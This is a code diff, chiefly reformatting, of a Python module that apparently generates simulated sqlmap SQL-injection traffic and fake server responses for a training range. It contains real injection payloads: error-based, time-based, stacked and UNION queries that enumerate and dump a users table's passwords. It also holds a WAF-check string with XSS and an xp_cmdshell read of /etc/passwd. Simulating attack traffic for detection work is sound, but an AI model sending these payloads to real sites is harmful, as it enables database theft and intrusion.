@@ -29,8 +29,8 @@ from urllib.parse import quote
 from pydantic import Field, model_validator
 
 from attack_scripts import _http
-from range.core.schema import Strict
-from range.traffic.techniques import StepContext, Technique, technique
+from range.core import Strict
+from range.traffic import StepContext, Technique, technique
 
 IPS_WAF_CHECK_PAYLOAD = ("AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert(\"XSS\")</script>',table_name FROM "
                          "information_schema.tables WHERE 2>1--/**/; EXEC xp_cmdshell('cat ../../../etc/passwd')#")
@@ -39,8 +39,13 @@ KB_CHARS_LOW_FREQUENCY_ALPHABET = "zqxjkvbp"
 DUMMY_NON_SQLI_CHECK_APPENDIX = "<'\">"
 MIN_TIME_RESPONSES = 30
 DB = "portal"
-COLUMNS = [("email", "varchar(128)"), ("id", "int(11)"), ("password", "varchar(255)"), ("role", "enum('admin','editor','staff')"),
-           ("username", "varchar(64)")]
+COLUMNS = [
+    ("email", "varchar(128)"),
+    ("id", "int(11)"),
+    ("password", "varchar(255)"),
+    ("role", "enum('admin','editor','staff')"),
+    ("username", "varchar(64)"),
+]
 VISIBLE = (1, 2)  # the page shows the query's title and body columns
 NCOLS = 4  # SELECT id, title, body, published
 
@@ -56,16 +61,27 @@ _IDENT = r"^[A-Za-z_][A-Za-z0-9_]{0,31}$"
 
 
 class Params(Strict):
-    requests: int = Field(default=150, ge=MIN_REQUESTS, le=5000,
-                          description=f"about how many requests sqlmap makes; at least {MIN_REQUESTS} (detection and "
-                                      "enumeration take ~70), the rest dump that many rows of the table")
-    path: str = Field(default="/news.php", max_length=200, pattern=r"^/[A-Za-z0-9._~/-]*\.php$", description="the vulnerable PHP page")
+    requests: int = Field(
+        default=150,
+        ge=MIN_REQUESTS,
+        le=5000,
+        description=f"about how many requests sqlmap makes; at least {MIN_REQUESTS} (detection and "
+        "enumeration take ~70), the rest dump that many rows of the table",
+    )
+    path: str = Field(
+        default="/news.php", max_length=200, pattern=r"^/[A-Za-z0-9._~/-]*\.php$", description="the vulnerable PHP page"
+    )
     parameter: str = Field(default="id", pattern=_IDENT, description="the injectable GET parameter")
-    value: str = Field(default="3", pattern=r"^[A-Za-z0-9._-]{1,40}$",
-                       description="its original value: digits make a numeric injection, text a quoted string one")
+    value: str = Field(
+        default="3",
+        pattern=r"^[A-Za-z0-9._-]{1,40}$",
+        description="its original value: digits make a numeric injection, text a quoted string one",
+    )
     delay: float = Field(default=0.0, ge=0, le=30, description="seconds between requests (sqlmap --delay)")
     rate: float | None = Field(default=None, gt=0, le=100, description="instead of delay: requests per second at most")
-    time_sec: int = Field(default=5, ge=1, le=30, description="SLEEP() seconds of time-based payloads (sqlmap --time-sec)")
+    time_sec: int = Field(
+        default=5, ge=1, le=30, description="SLEEP() seconds of time-based payloads (sqlmap --time-sec)"
+    )
     user_agent: Literal["sqlmap", "random"] = Field(default="sqlmap", description="'random' as sqlmap --random-agent")
     table: str = Field(default="users", pattern=_IDENT, description="the table dumped (-T)")
 
@@ -158,20 +174,36 @@ class _Sqlmap:
         n = self.rint()
         elt = f"(SELECT (ELT({n}={n},1)))"
         for andor in ("AND", "OR"):
-            self.add(self.cond(f"{andor} (SELECT 2*(IF((SELECT * FROM (SELECT {self.marker(elt)[:-1]},0x78))s), "
-                               "8446744073709551610, 8446744073709551610)))"),
-                     "error", "BIGINT value is out of range in '2 * 8446744073709551610'")
+            self.add(
+                self.cond(
+                    f"{andor} (SELECT 2*(IF((SELECT * FROM (SELECT {self.marker(elt)[:-1]},0x78))s), "
+                    "8446744073709551610, 8446744073709551610)))"
+                ),
+                "error",
+                "BIGINT value is out of range in '2 * 8446744073709551610'",
+            )
         for andor in ("AND", "OR"):
-            self.add(self.cond(f"{andor} EXP(~(SELECT * FROM (SELECT {self.marker(elt)[:-1]},0x78))x))"),
-                     "error", "DOUBLE value is out of range in 'exp(~((select #)))'")
+            self.add(
+                self.cond(f"{andor} EXP(~(SELECT * FROM (SELECT {self.marker(elt)[:-1]},0x78))x))"),
+                "error",
+                "DOUBLE value is out of range in 'exp(~((select #)))'",
+            )
         for andor in ("AND", "OR"):
-            self.add(self.cond(f"{andor} GTID_SUBSET({self.marker(elt)},{n})"), "error",
-                     f"FUNCTION {DB}.GTID_SUBSET does not exist")
+            self.add(
+                self.cond(f"{andor} GTID_SUBSET({self.marker(elt)},{n})"),
+                "error",
+                f"FUNCTION {DB}.GTID_SUBSET does not exist",
+            )
         self.add(self.cond(f"AND JSON_KEYS((SELECT CONVERT(({self.marker(elt)}) USING utf8)))"), "notfound")
         self.add(self.cond(f"OR JSON_KEYS((SELECT CONVERT(({self.marker(elt)}) USING utf8)))"), "page")
-        self.add(self.cond(f"AND (SELECT {n} FROM(SELECT COUNT(*),CONCAT({_hex(self.start)},{elt},{_hex(self.stop)},"
-                           "FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)"),
-                 "error", f"Duplicate entry '{self.start}1{self.stop}1' for key 'group_key'")
+        self.add(
+            self.cond(
+                f"AND (SELECT {n} FROM(SELECT COUNT(*),CONCAT({_hex(self.start)},{elt},{_hex(self.stop)},"
+                "FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)"
+            ),
+            "error",
+            f"Duplicate entry '{self.start}1{self.stop}1' for key 'group_key'",
+        )
         # inline queries
         self.add(f"({self.marker(f'(ELT({n}={n},1))').replace('CONCAT(', 'SELECT CONCAT(', 1)})", "notfound")
         # statistical model for time-based comparison: dummy requests of the original page
@@ -180,9 +212,14 @@ class _Sqlmap:
         # stacked queries (mysqli::query runs one statement: syntax errors, no delay)
         s = p.time_sec
         rr = self.rstr()
-        for tail in (f";SELECT SLEEP({s})#", f";SELECT SLEEP({s})", f";(SELECT * FROM (SELECT(SLEEP({s}))){rr})#",
-                     f";(SELECT * FROM (SELECT(SLEEP({s}))){rr})", ";SELECT BENCHMARK(5000000,MD5(0x4a6b4e78))#",
-                     ";SELECT BENCHMARK(5000000,MD5(0x4a6b4e78))"):
+        for tail in (
+            f";SELECT SLEEP({s})#",
+            f";SELECT SLEEP({s})",
+            f";(SELECT * FROM (SELECT(SLEEP({s}))){rr})#",
+            f";(SELECT * FROM (SELECT(SLEEP({s}))){rr})",
+            ";SELECT BENCHMARK(5000000,MD5(0x4a6b4e78))#",
+            ";SELECT BENCHMARK(5000000,MD5(0x4a6b4e78))",
+        ):
             val = (v + tail) if self.numeric else (v + "'" + tail)
             self.add(val, "error", _http.mariadb_syntax_error(tail.lstrip(";")))
         # MySQL >= 5.0.12 AND time-based blind (query SLEEP): delayed, SLEEP(0), delayed again
@@ -223,24 +260,34 @@ class _Sqlmap:
         for pos in positions:
             rnd = self.rstr(40)
             shown = pos in VISIBLE
-            self.add(self.union(self.marker(_hex(rnd)), pos), "union" if shown else "page",
-                     f"{self.start}{rnd}{self.stop}" if shown else None)
+            self.add(
+                self.union(self.marker(_hex(rnd)), pos),
+                "union" if shown else "page",
+                f"{self.start}{rnd}{self.stop}" if shown else None,
+            )
             if shown:
                 self.position = pos
                 break
         # the back-end DBMS: MySQL (MariaDB fork)
         self.add(self.cond("AND QUARTER(NULL XOR NULL) IS NULL"), "page")
         self.add(self.cond("AND SESSION_USER() LIKE USER()"), "page")
-        self.add(self.cond("AND ISNULL(JSON_STORAGE_FREE(NULL))"), "error", f"FUNCTION {DB}.JSON_STORAGE_FREE does not exist")
+        self.add(
+            self.cond("AND ISNULL(JSON_STORAGE_FREE(NULL))"), "error", f"FUNCTION {DB}.JSON_STORAGE_FREE does not exist"
+        )
         self.add(self.cond(f"AND VERSION() LIKE {_hex('%MariaDB%')}"), "page")
         # current database, columns of the table, its entries
         pos = self.position
         self.add(self.union(self.marker("IFNULL(CAST(DATABASE() AS NCHAR),0x20)"), pos), "union", self.wrap(DB))
         where = f" FROM INFORMATION_SCHEMA.COLUMNS WHERE table_name={_hex(p.table)} AND table_schema={_hex(DB)}"
-        colexpr = self.marker(f"IFNULL(CAST(column_name AS NCHAR),0x20),{_hex(self.delim)},IFNULL(CAST(column_type AS NCHAR),0x20)")
+        colexpr = self.marker(
+            f"IFNULL(CAST(column_name AS NCHAR),0x20),{_hex(self.delim)},IFNULL(CAST(column_type AS NCHAR),0x20)"
+        )
         self.add(self.union(colexpr, pos, where), "union", self.wrap(f"{COLUMNS[0][0]}{self.delim}{COLUMNS[0][1]}"))
-        self.add(self.union(self.marker("IFNULL(CAST(COUNT(column_name) AS NCHAR),0x20)"), pos, where), "union",
-                 self.wrap(str(len(COLUMNS))))
+        self.add(
+            self.union(self.marker("IFNULL(CAST(COUNT(column_name) AS NCHAR),0x20)"), pos, where),
+            "union",
+            self.wrap(str(len(COLUMNS))),
+        )
         for i, (name, ctype) in enumerate(COLUMNS):
             self.add(self.union(colexpr, pos, f"{where} LIMIT {i},1"), "union", self.wrap(f"{name}{self.delim}{ctype}"))
         assert len(self.items) + 2 <= CORE_MAX, len(self.items)
@@ -249,9 +296,13 @@ class _Sqlmap:
         cells = f",{_hex(self.delim)},".join(f"IFNULL(CAST({c} AS NCHAR),0x20)" for c, _ in COLUMNS)
         table = f" FROM {DB}.{p.table}"
         self.add(self.union(self.marker(cells), pos, table), "union", self.wrap(self.delim.join(users[0])))
-        self.add(self.union(self.marker("IFNULL(CAST(COUNT(*) AS NCHAR),0x20)"), pos, table), "union", self.wrap(str(rows)))
+        self.add(
+            self.union(self.marker("IFNULL(CAST(COUNT(*) AS NCHAR),0x20)"), pos, table), "union", self.wrap(str(rows))
+        )
         for i, row in enumerate(users):
-            self.add(self.union(self.marker(cells), pos, f"{table} LIMIT {i},1"), "union", self.wrap(self.delim.join(row)))
+            self.add(
+                self.union(self.marker(cells), pos, f"{table} LIMIT {i},1"), "union", self.wrap(self.delim.join(row))
+            )
         return self.items
 
     def wrap(self, text: str) -> str:
@@ -309,9 +360,18 @@ class HttpSqli(Technique):
                 think = 0.0
             else:
                 think = p.gap + r.uniform(*THINK)
-            req = _http.request("GET", f"{p.path}?{query}", [
-                ("Cache-control", "no-cache"), ("User-agent", ua), ("Host", host), ("Accept", "*/*"),
-                ("Accept-encoding", "gzip,deflate"), ("Connection", "keep-alive")])
+            req = _http.request(
+                "GET",
+                f"{p.path}?{query}",
+                [
+                    ("Cache-control", "no-cache"),
+                    ("User-agent", ua),
+                    ("Host", host),
+                    ("Accept", "*/*"),
+                    ("Accept-encoding", "gzip,deflate"),
+                    ("Connection", "keep-alive"),
+                ],
+            )
             latency = r.uniform(*LATENCY) + (p.time_sec if outcome == "sleep" else 0.0)
             conn.exchange(req, self._answer(ctx.domain, outcome, arg, pages), think, latency)
             if conn.requests >= cap or (outcome == "error" and r.random() < 0.12):
@@ -333,5 +393,8 @@ class HttpSqli(Technique):
                 return _http.php(404, when, pages["notfound"])
             if outcome == "error":
                 return _http.php(500, when, _http.db_error_html(domain, arg or ""))
-            return _http.php(200, when, _http.article_html(domain, 3, title=_http.htmlspecialchars(arg or ""), body="", date=""))
+            return _http.php(
+                200, when, _http.article_html(domain, 3, title=_http.htmlspecialchars(arg or ""), body="", date="")
+            )
+
         return build
